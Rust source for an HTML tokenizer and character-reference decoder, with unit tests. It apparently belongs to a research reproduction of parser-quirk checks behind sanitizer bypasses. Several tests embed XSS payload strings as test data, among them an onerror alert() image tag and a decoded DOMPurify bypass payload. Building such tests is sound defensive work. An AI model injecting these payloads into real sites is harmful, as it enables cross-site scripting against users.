            ErrorCode::UnexpectedSolidusInTag,
            ErrorCode::MissingWhitespaceBetweenAttributes,
            ErrorCode::DuplicateAttribute,
        ] {
            let id = code.spec_id();
            assert!(id.chars().all(|c| c.is_ascii_lowercase() || c == '-' || c.is_ascii_digit()));
            assert!(!id.is_empty());
        }
    }

    #[test]
    fn display_includes_offset() {
        let e = ParseError::new(ErrorCode::DuplicateAttribute, 42);
        assert_eq!(e.to_string(), "duplicate-attribute at 42");
    }
}
