//! Character reference resolution (§13.2.5.72–80).
//!
//! Implements the numeric reference rules exactly (including the Windows-1252
//! C1 remap table and the surrogate/noncharacter/control error states) and a
//! named reference table covering the references that occur in practice on
//! the web — all HTML4-era legacy names (which may appear *without* a
//! trailing semicolon, with the attribute-value divergence rule of
//! §13.2.5.73) plus the common HTML5 additions.
//!
//! The attribute-vs-data divergence matters for the paper's payloads: in
//! Figure 1 the `&gt;` inside the `title` attribute decodes to `>` on the
//! first parse, which is what re-arms the payload for the second parse.

use crate::errors::{ErrorCode, ParseError};

/// A resolved named reference: the name (without `&`), whether the canonical
/// form carries a semicolon, and the replacement text.
struct Named {
    name: &'static str,
    chars: &'static str,
}

/// Names that HTML allows without a trailing semicolon (the legacy set).
/// Table ordering: longest-first within a shared prefix is ensured by the
/// lookup, not the table.
const LEGACY: &[Named] = &[
    Named { name: "amp", chars: "&" },
    Named { name: "lt", chars: "<" },
    Named { name: "gt", chars: ">" },
    Named { name: "quot", chars: "\"" },
    Named { name: "nbsp", chars: "\u{A0}" },
    Named { name: "copy", chars: "©" },
    Named { name: "reg", chars: "®" },
    Named { name: "trade", chars: "™" },
    Named { name: "sect", chars: "§" },
    Named { name: "laquo", chars: "«" },
    Named { name: "raquo", chars: "»" },
    Named { name: "middot", chars: "·" },
    Named { name: "para", chars: "¶" },
    Named { name: "plusmn", chars: "±" },
    Named { name: "deg", chars: "°" },
    Named { name: "sup1", chars: "¹" },
    Named { name: "sup2", chars: "²" },
    Named { name: "sup3", chars: "³" },
    Named { name: "frac12", chars: "½" },
    Named { name: "frac14", chars: "¼" },
    Named { name: "frac34", chars: "¾" },
    Named { name: "iquest", chars: "¿" },
    Named { name: "iexcl", chars: "¡" },
    Named { name: "szlig", chars: "ß" },
    Named { name: "agrave", chars: "à" },
    Named { name: "aacute", chars: "á" },
    Named { name: "acirc", chars: "â" },
    Named { name: "atilde", chars: "ã" },
    Named { name: "auml", chars: "ä" },
    Named { name: "aring", chars: "å" },
    Named { name: "aelig", chars: "æ" },
    Named { name: "ccedil", chars: "ç" },
    Named { name: "egrave", chars: "è" },
    Named { name: "eacute", chars: "é" },
    Named { name: "ecirc", chars: "ê" },
    Named { name: "euml", chars: "ë" },
    Named { name: "igrave", chars: "ì" },
    Named { name: "iacute", chars: "í" },
    Named { name: "icirc", chars: "î" },
    Named { name: "iuml", chars: "ï" },
    Named { name: "ntilde", chars: "ñ" },
    Named { name: "ograve", chars: "ò" },
    Named { name: "oacute", chars: "ó" },
    Named { name: "ocirc", chars: "ô" },
    Named { name: "otilde", chars: "õ" },
    Named { name: "ouml", chars: "ö" },
    Named { name: "oslash", chars: "ø" },
    Named { name: "ugrave", chars: "ù" },
    Named { name: "uacute", chars: "ú" },
    Named { name: "ucirc", chars: "û" },
    Named { name: "uuml", chars: "ü" },
    Named { name: "yacute", chars: "ý" },
    Named { name: "yuml", chars: "ÿ" },
    Named { name: "Agrave", chars: "À" },
    Named { name: "Aacute", chars: "Á" },
    Named { name: "Auml", chars: "Ä" },
    Named { name: "Ouml", chars: "Ö" },
    Named { name: "Uuml", chars: "Ü" },
    Named { name: "Ntilde", chars: "Ñ" },
    Named { name: "Ccedil", chars: "Ç" },
    Named { name: "Eacute", chars: "É" },
    Named { name: "times", chars: "×" },
    Named { name: "divide", chars: "÷" },
    Named { name: "cent", chars: "¢" },
    Named { name: "pound", chars: "£" },
    Named { name: "yen", chars: "¥" },
    Named { name: "curren", chars: "¤" },
    Named { name: "brvbar", chars: "¦" },
    Named { name: "uml", chars: "¨" },
    Named { name: "ordf", chars: "ª" },
    Named { name: "ordm", chars: "º" },
    Named { name: "not", chars: "¬" },
    Named { name: "shy", chars: "\u{AD}" },
    Named { name: "macr", chars: "¯" },
    Named { name: "acute", chars: "´" },
    Named { name: "micro", chars: "µ" },
    Named { name: "cedil", chars: "¸" },
    Named { name: "eth", chars: "ð" },
    Named { name: "thorn", chars: "þ" },
];

/// Semicolon-only names (HTML5 additions and everything not in the legacy
/// set). A pragmatic subset: the references that actually occur in web pages
/// and in the paper's payload corpus.
const MODERN: &[Named] = &[
    Named { name: "apos", chars: "'" },
    Named { name: "ndash", chars: "–" },
    Named { name: "mdash", chars: "—" },
    Named { name: "lsquo", chars: "‘" },
    Named { name: "rsquo", chars: "’" },
    Named { name: "ldquo", chars: "“" },
    Named { name: "rdquo", chars: "”" },
    Named { name: "bdquo", chars: "„" },
    Named { name: "dagger", chars: "†" },
    Named { name: "Dagger", chars: "‡" },
    Named { name: "bull", chars: "•" },
    Named { name: "hellip", chars: "…" },
    Named { name: "permil", chars: "‰" },
    Named { name: "prime", chars: "′" },
    Named { name: "Prime", chars: "″" },
    Named { name: "lsaquo", chars: "‹" },
    Named { name: "rsaquo", chars: "›" },
    Named { name: "oline", chars: "‾" },
    Named { name: "frasl", chars: "⁄" },
    Named { name: "euro", chars: "€" },
    Named { name: "alpha", chars: "α" },
    Named { name: "beta", chars: "β" },
    Named { name: "gamma", chars: "γ" },
    Named { name: "delta", chars: "δ" },
    Named { name: "epsilon", chars: "ε" },
    Named { name: "lambda", chars: "λ" },
    Named { name: "mu", chars: "μ" },
    Named { name: "pi", chars: "π" },
    Named { name: "sigma", chars: "σ" },
    Named { name: "omega", chars: "ω" },
    Named { name: "Alpha", chars: "Α" },
    Named { name: "Delta", chars: "Δ" },
    Named { name: "Omega", chars: "Ω" },
    Named { name: "Sigma", chars: "Σ" },
    Named { name: "Pi", chars: "Π" },
    Named { name: "larr", chars: "←" },
    Named { name: "uarr", chars: "↑" },
    Named { name: "rarr", chars: "→" },
    Named { name: "darr", chars: "↓" },
    Named { name: "harr", chars: "↔" },
    Named { name: "rArr", chars: "⇒" },
    Named { name: "lArr", chars: "⇐" },
    Named { name: "forall", chars: "∀" },
    Named { name: "part", chars: "∂" },
    Named { name: "exist", chars: "∃" },
    Named { name: "empty", chars: "∅" },
    Named { name: "nabla", chars: "∇" },
    Named { name: "isin", chars: "∈" },
    Named { name: "notin", chars: "∉" },
    Named { name: "ni", chars: "∋" },
    Named { name: "prod", chars: "∏" },
    Named { name: "sum", chars: "∑" },
    Named { name: "minus", chars: "−" },
    Named { name: "lowast", chars: "∗" },
    Named { name: "radic", chars: "√" },
    Named { name: "prop", chars: "∝" },
    Named { name: "infin", chars: "∞" },
    Named { name: "ang", chars: "∠" },
    Named { name: "and", chars: "∧" },
    Named { name: "or", chars: "∨" },
    Named { name: "cap", chars: "∩" },
    Named { name: "cup", chars: "∪" },
    Named { name: "int", chars: "∫" },
    Named { name: "there4", chars: "∴" },
    Named { name: "sim", chars: "∼" },
    Named { name: "cong", chars: "≅" },
    Named { name: "asymp", chars: "≈" },
    Named { name: "ne", chars: "≠" },
    Named { name: "equiv", chars: "≡" },
    Named { name: "le", chars: "≤" },
    Named { name: "ge", chars: "≥" },
    Named { name: "sub", chars: "⊂" },
    Named { name: "sup", chars: "⊃" },
    Named { name: "nsub", chars: "⊄" },
    Named { name: "sube", chars: "⊆" },
    Named { name: "supe", chars: "⊇" },
    Named { name: "oplus", chars: "⊕" },
    Named { name: "otimes", chars: "⊗" },
    Named { name: "perp", chars: "⊥" },
    Named { name: "sdot", chars: "⋅" },
    Named { name: "lceil", chars: "⌈" },
    Named { name: "rceil", chars: "⌉" },
    Named { name: "lfloor", chars: "⌊" },
    Named { name: "rfloor", chars: "⌋" },
    Named { name: "lang", chars: "⟨" },
    Named { name: "rang", chars: "⟩" },
    Named { name: "loz", chars: "◊" },
    Named { name: "spades", chars: "♠" },
    Named { name: "clubs", chars: "♣" },
    Named { name: "hearts", chars: "♥" },
    Named { name: "diams", chars: "♦" },
    Named { name: "oelig", chars: "œ" },
    Named { name: "OElig", chars: "Œ" },
    Named { name: "scaron", chars: "š" },
    Named { name: "Scaron", chars: "Š" },
    Named { name: "Yuml", chars: "Ÿ" },
    Named { name: "fnof", chars: "ƒ" },
    Named { name: "circ", chars: "ˆ" },
    Named { name: "tilde", chars: "˜" },
    Named { name: "ensp", chars: "\u{2002}" },
    Named { name: "emsp", chars: "\u{2003}" },
    Named { name: "thinsp", chars: "\u{2009}" },
    Named { name: "zwnj", chars: "\u{200C}" },
    Named { name: "zwj", chars: "\u{200D}" },
    Named { name: "lrm", chars: "\u{200E}" },
    Named { name: "rlm", chars: "\u{200F}" },
    Named { name: "sbquo", chars: "‚" },
    Named { name: "image", chars: "ℑ" },
    Named { name: "weierp", chars: "℘" },
    Named { name: "real", chars: "ℜ" },
    Named { name: "alefsym", chars: "ℵ" },
    Named { name: "crarr", chars: "↵" },
    Named { name: "star", chars: "☆" },
    Named { name: "check", chars: "✓" },
    Named { name: "cross", chars: "✗" },
];

/// The Windows-1252 remap table for numeric references in 0x80..=0x9F
/// (§13.2.5.80 "Numeric character reference end state").
const C1_REMAP: [char; 32] = [
    '\u{20AC}', '\u{81}', '\u{201A}', '\u{0192}', '\u{201E}', '\u{2026}', '\u{2020}', '\u{2021}',
    '\u{02C6}', '\u{2030}', '\u{0160}', '\u{2039}', '\u{0152}', '\u{8D}', '\u{017D}', '\u{8F}',
    '\u{90}', '\u{2018}', '\u{2019}', '\u{201C}', '\u{201D}', '\u{2022}', '\u{2013}', '\u{2014}',
    '\u{02DC}', '\u{2122}', '\u{0161}', '\u{203A}', '\u{0153}', '\u{9D}', '\u{017E}', '\u{0178}',
];

/// Result of attempting to match a named reference at the text after `&`.
pub struct NamedMatch {
    /// Replacement text.
    pub replacement: &'static str,
    /// Number of characters consumed after the `&` (name + optional `;`).
    /// Names are ASCII, so this is also the number of bytes.
    pub consumed: usize,
    /// Whether the match ended with a semicolon.
    pub with_semicolon: bool,
}

/// Lookup structure over [`LEGACY`] + [`MODERN`]: all entries sorted by
/// name, with a per-first-byte range index so a lookup only walks the
/// handful of names sharing the input's first letter instead of the whole
/// table. Built once on first use.
struct NamedIndex {
    /// (name, replacement, legacy) sorted by name bytes.
    entries: Vec<(&'static str, &'static str, bool)>,
    /// `buckets[b]` is the `entries` range of names whose first byte is `b`.
    /// Entity names start with ASCII letters, so 128 slots suffice.
    buckets: [(u32, u32); 128],
}

fn named_index() -> &'static NamedIndex {
    static INDEX: std::sync::OnceLock<NamedIndex> = std::sync::OnceLock::new();
    INDEX.get_or_init(|| {
        let mut entries: Vec<(&str, &str, bool)> = LEGACY
            .iter()
            .map(|e| (e.name, e.chars, true))
            .chain(MODERN.iter().map(|e| (e.name, e.chars, false)))
            .collect();
        entries.sort_unstable_by_key(|&(name, _, _)| name);
        debug_assert!(entries.iter().all(|e| e.0.is_ascii() && e.0.as_bytes()[0] < 128));
        let mut buckets = [(0u32, 0u32); 128];
        let mut i = 0;
        while i < entries.len() {
            let b = entries[i].0.as_bytes()[0] as usize;
            let start = i;
            while i < entries.len() && entries[i].0.as_bytes()[0] as usize == b {
                i += 1;
            }
            buckets[b] = (start as u32, i as u32);
        }
        NamedIndex { entries, buckets }
    })
}

/// Longest-prefix match of a named character reference starting *after* an
/// ampersand. `rest` is the input beginning just after `&`.
pub fn match_named(rest: &str) -> Option<NamedMatch> {
    let first = *rest.as_bytes().first()?;
    if first >= 128 {
        return None;
    }
    let index = named_index();
    let (start, end) = index.buckets[first as usize];
    let mut best: Option<NamedMatch> = None;
    for &(name, replacement, legacy) in &index.entries[start as usize..end as usize] {
        if !rest.as_bytes().starts_with(name.as_bytes()) {
            continue;
        }
        let with_semi = rest.as_bytes().get(name.len()) == Some(&b';');
        if !with_semi && !legacy {
            continue; // modern names require the semicolon
        }
        // Longest consumed span wins. Ties are impossible: two distinct
        // names matching the same input with equal consumed length would
        // have to be the same string (a `;` cannot occur inside a name).
        let consumed = name.len() + usize::from(with_semi);
        if best.as_ref().is_none_or(|b| consumed > b.consumed) {
            best = Some(NamedMatch { replacement, consumed, with_semicolon: with_semi });
        }
    }
    best
}

/// Resolve a numeric reference value to its replacement character, applying
/// the spec's remaps, and report the associated parse errors.
pub fn resolve_numeric(value: u32, offset: usize, errors: &mut Vec<ParseError>) -> char {
    if value == 0 {
        errors.push(ParseError::new(ErrorCode::NullCharacterReference, offset));
        return '\u{FFFD}';
    }
    if value > 0x10FFFF {
        errors.push(ParseError::new(ErrorCode::CharacterReferenceOutsideUnicodeRange, offset));
        return '\u{FFFD}';
    }
    if (0xD800..=0xDFFF).contains(&value) {
        errors.push(ParseError::new(ErrorCode::SurrogateCharacterReference, offset));
        return '\u{FFFD}';
    }
    if (0x80..=0x9F).contains(&value) {
        errors.push(ParseError::new(ErrorCode::ControlCharacterReference, offset));
        return C1_REMAP[(value - 0x80) as usize];
    }
    let c = char::from_u32(value).unwrap_or('\u{FFFD}');
    let v = value;
    if (0xFDD0..=0xFDEF).contains(&v) || (v & 0xFFFE) == 0xFFFE {
        errors.push(ParseError::new(ErrorCode::NoncharacterCharacterReference, offset));
    } else if v < 0x20 && !matches!(c, '\t' | '\n' | '\u{C}') || v == 0x7F {
        errors.push(ParseError::new(ErrorCode::ControlCharacterReference, offset));
    }
    c
}

/// Decode all character references in a plain string (data context, not
/// attribute). Convenience for checkers and tests; the tokenizer uses the
/// streaming path.
pub fn decode_data(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    let mut errs = Vec::new();
    while let Some(c) = s[i..].chars().next() {
        if c == '&' {
            let rest = &s[i + 1..];
            if let Some(m) = match_named(rest) {
                out.push_str(m.replacement);
                i += 1 + m.consumed;
                continue;
            }
            if rest.as_bytes().first() == Some(&b'#') {
                if let Some((value, used)) = scan_numeric(rest) {
                    out.push(resolve_numeric(value, i, &mut errs));
                    i += 1 + used;
                    continue;
                }
            }
        }
        out.push(c);
        i += c.len_utf8();
    }
    out
}

/// Scan `#123;` / `#x1F;` after an `&`. Returns (value, bytes consumed
/// including the `#`, digits, and optional semicolon).
fn scan_numeric(rest: &str) -> Option<(u32, usize)> {
    let bytes = rest.as_bytes();
    debug_assert_eq!(bytes.first(), Some(&b'#'));
    let mut i = 1;
    let hex = matches!(bytes.get(i), Some(b'x') | Some(b'X'));
    if hex {
        i += 1;
    }
    let start = i;
    let mut value: u32 = 0;
    while let Some(&c) = bytes.get(i) {
        let d = (c as char).to_digit(if hex { 16 } else { 10 });
        match d {
            Some(d) => {
                value = value.saturating_mul(if hex { 16 } else { 10 }).saturating_add(d);
                i += 1;
            }
            None => break,
        }
    }
    if i == start {
        return None;
    }
    if bytes.get(i) == Some(&b';') {
        i += 1;
    }
    Some((value, i))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn basic_named() {
        assert_eq!(decode_data("a &amp; b"), "a & b");
        assert_eq!(decode_data("&lt;img&gt;"), "<img>");
    }

    #[test]
    fn legacy_without_semicolon() {
        assert_eq!(decode_data("fish &amp chips"), "fish & chips");
        assert_eq!(decode_data("&copy 2022"), "© 2022");
    }

    #[test]
    fn modern_requires_semicolon() {
        assert_eq!(decode_data("&ndash x"), "&ndash x");
        assert_eq!(decode_data("&ndash; x"), "– x");
    }

    #[test]
    fn figure1_payload_decodes() {
        // The attribute payload of the DOMPurify bypass.
        assert_eq!(
            decode_data("--&gt;&lt;img src=1 onerror=alert(1)&gt;"),
            "--><img src=1 onerror=alert(1)>"
        );
    }

    #[test]
    fn numeric_decimal_and_hex() {
        assert_eq!(decode_data("&#65;&#x42;"), "AB");
        assert_eq!(decode_data("&#x1F600;"), "😀");
    }

    #[test]
    fn numeric_c1_remap() {
        // &#128; is remapped to the euro sign per the Windows-1252 table.
        assert_eq!(decode_data("&#128;"), "€");
        assert_eq!(decode_data("&#x92;"), "’");
    }

    #[test]
    fn numeric_null_and_out_of_range() {
        assert_eq!(decode_data("&#0;"), "\u{FFFD}");
        assert_eq!(decode_data("&#x110000;"), "\u{FFFD}");
        assert_eq!(decode_data("&#xD800;"), "\u{FFFD}");
    }

    #[test]
    fn bare_ampersand_passes_through() {
        assert_eq!(decode_data("a & b"), "a & b");
        assert_eq!(decode_data("&#;"), "&#;");
        assert_eq!(decode_data("&unknownref;"), "&unknownref;");
    }

    #[test]
    fn longest_match_wins() {
        // "&not" is legacy, but "&notin;" must win when the semicolon form
        // is present.
        assert_eq!(decode_data("&notin;"), "∉");
        assert_eq!(decode_data("&notit"), "¬it");
    }

    /// The pre-index implementation: a linear scan over both tables in
    /// declaration order. Kept as the reference the indexed lookup is
    /// tested against.
    fn match_named_linear(rest: &str) -> Option<(&'static str, usize, bool)> {
        let mut best: Option<(&'static str, usize, bool)> = None;
        for (table, legacy) in [(LEGACY, true), (MODERN, false)] {
            for ent in table {
                if !rest.as_bytes().starts_with(ent.name.as_bytes()) {
                    continue;
                }
                let with_semi = rest.as_bytes().get(ent.name.len()) == Some(&b';');
                if !with_semi && !legacy {
                    continue;
                }
                let consumed = ent.name.len() + usize::from(with_semi);
                if best.is_none_or(|b| consumed > b.1) {
                    best = Some((ent.chars, consumed, with_semi));
                }
            }
        }
        best
    }

    fn assert_matches_reference(input: &str) {
        let got = match_named(input).map(|m| (m.replacement, m.consumed, m.with_semicolon));
        assert_eq!(got, match_named_linear(input), "diverged on {input:?}");
    }

    #[test]
    fn indexed_lookup_matches_linear_reference_exhaustively() {
        // Every name from both tables, with every suffix that can change
        // the outcome: semicolon, alphanumeric continuation, terminator,
        // truncation by one character.
        for table in [LEGACY, MODERN] {
            for ent in table {
                for suffix in ["", ";", "x", "9", ";x", " rest", "=v"] {
                    assert_matches_reference(&format!("{}{}", ent.name, suffix));
                    let truncated = &ent.name[..ent.name.len() - 1];
                    assert_matches_reference(&format!("{}{}", truncated, suffix));
                }
            }
        }
        for edge in ["", ";", "&", "ü", "漢", "x", "Zz;", "amp\u{0}"] {
            assert_matches_reference(edge);
        }
    }

    mod properties {
        use super::*;
        use proptest::prelude::*;

        /// Name-like soup biased toward real prefixes of table entries.
        fn name_soup() -> impl Strategy<Value = String> {
            let stem = prop_oneof![
                Just("amp".to_owned()),
                Just("am".to_owned()),
                Just("not".to_owned()),
                Just("notin".to_owned()),
                Just("sup".to_owned()),
                Just("sup1".to_owned()),
                Just("lt".to_owned()),
                Just("copy".to_owned()),
                Just("ndash".to_owned()),
                Just("Dagger".to_owned()),
                "[a-zA-Z]{0,8}".prop_map(|s| s),
            ];
            let tail = prop_oneof![
                Just(String::new()),
                Just(";".to_owned()),
                Just("; x".to_owned()),
                "[a-zA-Z0-9;=& ]{0,6}".prop_map(|s| s),
            ];
            (stem, tail).prop_map(|(s, t)| format!("{s}{t}"))
        }

        proptest! {
            #![proptest_config(ProptestConfig::with_cases(512))]

            #[test]
            fn indexed_lookup_matches_linear_reference(input in name_soup()) {
                let got =
                    match_named(&input).map(|m| (m.replacement, m.consumed, m.with_semicolon));
                prop_assert_eq!(got, match_named_linear(&input));
            }
        }
    }
}
