//! Tokenizer unit tests, including every tokenizer-level error the paper's
//! checkers depend on (FB1, FB2, DM3) and the content-model machinery the
//! DE checkers rely on (RCDATA, RAWTEXT, script data).

use super::*;

fn toks(input: &str) -> (Vec<Token>, Vec<ParseError>) {
    crate::tokenize(input)
}

fn tag_names(tokens: &[Token]) -> Vec<String> {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::StartTag(t) => Some(format!("<{}>", t.name)),
            Token::EndTag(t) => Some(format!("</{}>", t.name)),
            _ => None,
        })
        .collect()
}

fn has_error(errs: &[ParseError], code: ErrorCode) -> bool {
    errs.iter().any(|e| e.code == code)
}

fn text_of(tokens: &[Token]) -> String {
    tokens
        .iter()
        .filter_map(|t| match t {
            Token::Characters(s) => Some(s.as_str()),
            _ => None,
        })
        .collect()
}

#[test]
fn simple_start_and_end_tags() {
    let (t, e) = toks("<p>Hello</p>");
    assert_eq!(tag_names(&t), vec!["<p>", "</p>"]);
    assert_eq!(text_of(&t), "Hello");
    assert!(e.is_empty());
}

#[test]
fn tag_names_are_lowercased() {
    let (t, _) = toks("<DIV CLASS=a>");
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.name, "div");
    assert_eq!(tag.attrs[0].name, "class");
    assert_eq!(tag.attrs[0].value, "a");
}

#[test]
fn attributes_quoted_single_double_unquoted() {
    let (t, e) = toks(r#"<a href="x" title='y' id=z>"#);
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.attr_value("href"), Some("x"));
    assert_eq!(tag.attr_value("title"), Some("y"));
    assert_eq!(tag.attr_value("id"), Some("z"));
    assert!(e.is_empty());
}

#[test]
fn attribute_without_value() {
    let (t, e) = toks("<input disabled>");
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.attr_value("disabled"), Some(""));
    assert!(e.is_empty());
}

#[test]
fn self_closing_flag() {
    let (t, e) = toks("<br/>");
    assert!(t[0].as_start_tag().unwrap().self_closing);
    assert!(e.is_empty());
}

// --- FB1: unexpected-solidus-in-tag ---

#[test]
fn fb1_slash_between_attributes() {
    // The paper's example: <img/src="x"/onerror="alert('XSS')">
    let (t, e) = toks(r#"<img/src="x"/onerror="alert('XSS')">"#);
    assert!(has_error(&e, ErrorCode::UnexpectedSolidusInTag));
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.attr_value("src"), Some("x"));
    assert_eq!(tag.attr_value("onerror"), Some("alert('XSS')"));
}

#[test]
fn fb1_not_triggered_by_valid_self_close() {
    let (_, e) = toks("<img src=x />");
    assert!(!has_error(&e, ErrorCode::UnexpectedSolidusInTag));
}

#[test]
fn fb1_slash_before_unquoted_value_is_part_of_value() {
    // `/` inside an unquoted value is value text, not a solidus error.
    let (t, e) = toks("<a href=/foo/bar>");
    assert!(!has_error(&e, ErrorCode::UnexpectedSolidusInTag));
    assert_eq!(t[0].as_start_tag().unwrap().attr_value("href"), Some("/foo/bar"));
}

// --- FB2: missing-whitespace-between-attributes ---

#[test]
fn fb2_missing_space_after_quoted_value() {
    // The paper's example: <img src="users/injection"onerror="alert('XSS')">
    let (t, e) = toks(r#"<img src="users/injection"onerror="alert('XSS')">"#);
    assert!(has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.attrs.len(), 2);
}

#[test]
fn fb2_figure13_iframe_case() {
    // <iframe src="https://foobar"</iframe> — the `<` after `"` becomes an
    // attribute and a missing-whitespace error fires.
    let (t, e) = toks(r#"<iframe src="https://foobar"</iframe>"#);
    assert!(has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
    let tag = t[0].as_start_tag().unwrap();
    assert!(tag.attrs.iter().any(|a| a.name.starts_with('<')));
}

#[test]
fn fb2_not_triggered_with_space() {
    let (_, e) = toks(r#"<img src="x" onerror="y">"#);
    assert!(!has_error(&e, ErrorCode::MissingWhitespaceBetweenAttributes));
}

// --- DM3: duplicate-attribute ---

#[test]
fn dm3_duplicate_attribute_dropped_and_reported() {
    let (t, e) = toks(r#"<div id="injection" onclick="evil()" onclick="benign()">"#);
    assert!(has_error(&e, ErrorCode::DuplicateAttribute));
    let tag = t[0].as_start_tag().unwrap();
    // Spec: the first occurrence wins; the duplicate is dropped.
    assert_eq!(tag.attr_value("onclick"), Some("evil()"));
    assert_eq!(tag.duplicate_attrs.len(), 1);
    assert_eq!(tag.duplicate_attrs[0].value, "benign()");
}

#[test]
fn dm3_case_insensitive_duplicate() {
    let (_, e) = toks("<img SRC=a src=b>");
    assert!(has_error(&e, ErrorCode::DuplicateAttribute));
}

#[test]
fn dm3_not_triggered_on_distinct() {
    let (_, e) = toks("<img src=a alt=b>");
    assert!(!has_error(&e, ErrorCode::DuplicateAttribute));
}

// --- character references ---

#[test]
fn charref_in_data() {
    let (t, _) = toks("a&amp;b");
    assert_eq!(text_of(&t), "a&b");
}

#[test]
fn charref_in_attribute_decoded_with_raw_preserved() {
    let (t, _) = toks(r#"<img title="--&gt;&lt;img&gt;">"#);
    let tag = t[0].as_start_tag().unwrap();
    let attr = tag.attr("title").unwrap();
    assert_eq!(attr.value, "--><img>");
    assert_eq!(attr.raw_value(), "--&gt;&lt;img&gt;");
}

#[test]
fn charref_legacy_attr_divergence() {
    // `&not` followed by alphanumeric in an attribute is NOT decoded
    // (historical compat), but in data it is.
    let (t, _) = toks(r#"<a href="?a=b&notc=d">x&notc"#);
    let tag = t[0].as_start_tag().unwrap();
    assert_eq!(tag.attr_value("href"), Some("?a=b&notc=d"));
    assert_eq!(text_of(&t), "x¬c");
}

#[test]
fn charref_numeric_in_attr() {
    let (t, _) = toks(r#"<a data-x="&#65;&#x42;">"#);
    assert_eq!(t[0].as_start_tag().unwrap().attr_value("data-x"), Some("AB"));
}

#[test]
fn missing_semicolon_reported() {
    let (_, e) = toks("&amp x");
    assert!(has_error(&e, ErrorCode::MissingSemicolonAfterCharacterReference));
}

// --- comments ---

#[test]
fn simple_comment() {
    let (t, e) = toks("<!-- hello -->");
    assert_eq!(t[0], Token::Comment(" hello ".into()));
    assert!(e.is_empty());
}

#[test]
fn abrupt_comment_close() {
    let (t, e) = toks("<!-->x");
    assert!(has_error(&e, ErrorCode::AbruptClosingOfEmptyComment));
    assert_eq!(t[0], Token::Comment(String::new()));
}

#[test]
fn incorrectly_closed_comment() {
    let (t, e) = toks("<!--x--!>y");
    assert!(has_error(&e, ErrorCode::IncorrectlyClosedComment));
    assert_eq!(t[0], Token::Comment("x".into()));
    assert_eq!(text_of(&t), "y");
}

#[test]
fn nested_comment_error() {
    let (_, e) = toks("<!-- a <!-- b --> c");
    assert!(has_error(&e, ErrorCode::NestedComment));
}

#[test]
fn bogus_comment_from_question_mark() {
    let (t, e) = toks("<?xml version=\"1.0\"?>");
    assert!(has_error(&e, ErrorCode::UnexpectedQuestionMarkInsteadOfTagName));
    assert!(matches!(&t[0], Token::Comment(c) if c.starts_with("?xml")));
}

#[test]
fn cdata_outside_foreign_content_is_bogus_comment() {
    let (t, e) = toks("<![CDATA[x]]>");
    assert!(has_error(&e, ErrorCode::CdataInHtmlContent));
    assert!(matches!(&t[0], Token::Comment(c) if c.starts_with("[CDATA[")));
}

// --- DOCTYPE ---

#[test]
fn simple_doctype() {
    let (t, e) = toks("<!DOCTYPE html>");
    match &t[0] {
        Token::Doctype(d) => {
            assert_eq!(d.name.as_deref(), Some("html"));
            assert!(!d.force_quirks);
        }
        other => panic!("expected doctype, got {other:?}"),
    }
    assert!(e.is_empty());
}

#[test]
fn doctype_with_public_id() {
    let (t, _) = toks(r#"<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN">"#);
    match &t[0] {
        Token::Doctype(d) => {
            assert_eq!(d.public_id.as_deref(), Some("-//W3C//DTD HTML 4.01//EN"));
        }
        other => panic!("expected doctype, got {other:?}"),
    }
}

#[test]
fn doctype_case_insensitive() {
    let (t, _) = toks("<!doctype HTML>");
    assert!(matches!(&t[0], Token::Doctype(d) if d.name.as_deref() == Some("html")));
}

// --- RCDATA / RAWTEXT / script data ---

#[test]
fn textarea_content_is_rcdata() {
    let (t, _) = toks("<textarea><p>not a tag</p></textarea>");
    assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
    assert_eq!(text_of(&t), "<p>not a tag</p>");
}

#[test]
fn rcdata_decodes_charrefs() {
    let (t, _) = toks("<title>a &amp; b</title>");
    assert_eq!(text_of(&t), "a & b");
}

#[test]
fn style_content_is_rawtext_no_charref() {
    let (t, _) = toks("<style>a &amp; <b></style>");
    assert_eq!(tag_names(&t), vec!["<style>", "</style>"]);
    assert_eq!(text_of(&t), "a &amp; <b>");
}

#[test]
fn script_content_swallows_tags() {
    let (t, _) = toks("<script>if (a < b) { x(\"</div>\"); }</script>");
    assert_eq!(tag_names(&t), vec!["<script>", "</script>"]);
}

#[test]
fn script_double_escape() {
    // <!--<script> inside script data enters double-escaped state; the inner
    // </script> does not close the element.
    let (t, _) = toks("<script><!--<script>x</script>--></script>");
    assert_eq!(tag_names(&t), vec!["<script>", "</script>"]);
    assert_eq!(text_of(&t), "<!--<script>x</script>-->");
}

#[test]
fn rcdata_case_insensitive_end_tag() {
    let (t, _) = toks("<textarea>x</TEXTAREA>");
    assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
}

#[test]
fn rcdata_non_matching_end_tag_is_text() {
    let (t, _) = toks("<textarea></div></textarea>");
    assert_eq!(tag_names(&t), vec!["<textarea>", "</textarea>"]);
    assert_eq!(text_of(&t), "</div>");
}

#[test]
fn unterminated_textarea_hits_eof() {
    // DE1's raw material: everything to EOF is swallowed as text.
    let (t, _) = toks("<textarea><p>My little secret</p>");
    assert_eq!(tag_names(&t), vec!["<textarea>"]);
    assert_eq!(text_of(&t), "<p>My little secret</p>");
}

// --- end tag anomalies ---

#[test]
fn end_tag_with_attributes_error() {
    let (_, e) = toks("</div class=x>");
    assert!(has_error(&e, ErrorCode::EndTagWithAttributes));
}

#[test]
fn missing_end_tag_name() {
    let (t, e) = toks("a</>b");
    assert!(has_error(&e, ErrorCode::MissingEndTagName));
    assert_eq!(text_of(&t), "ab");
}

#[test]
fn invalid_first_char_of_tag_name_emits_lt() {
    let (t, e) = toks("a < b");
    assert!(has_error(&e, ErrorCode::InvalidFirstCharacterOfTagName));
    assert_eq!(text_of(&t), "a < b");
}

// --- EOF edge cases ---

#[test]
fn eof_in_tag() {
    let (_, e) = toks("<img src=");
    assert!(has_error(&e, ErrorCode::EofInTag));
}

#[test]
fn eof_in_quoted_attribute() {
